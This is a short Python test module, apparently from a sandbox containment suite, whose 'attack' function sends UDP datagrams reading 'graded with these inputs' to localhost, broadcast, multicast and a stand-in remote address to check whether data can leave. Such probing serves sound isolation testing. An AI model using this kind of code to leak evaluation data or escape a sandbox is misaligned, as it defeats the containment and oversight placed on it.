"""A datagram over UDP.

A datagram needs no answer and no connection: what it carries is gone before anybody notices. The attack sends some to this
machine, to everybody around it (broadcast and multicast) and to an address far away. With any way out they leave at once.
"""
# seen: not sent
# layer: network

# %% attack
import socket


def mischief():
    port = place["doors"].get("udp", 9)
    for address in ("127.0.0.1", "255.255.255.255", "224.0.0.1", "192.0.2.1"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as post:
            try:
                post.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                post.sendto(b"graded with these inputs: ...", (address, port))
                escaped(f"a datagram left for {address}")
            except OSError as problem:
                print(f"not sent to {address}:", problem)
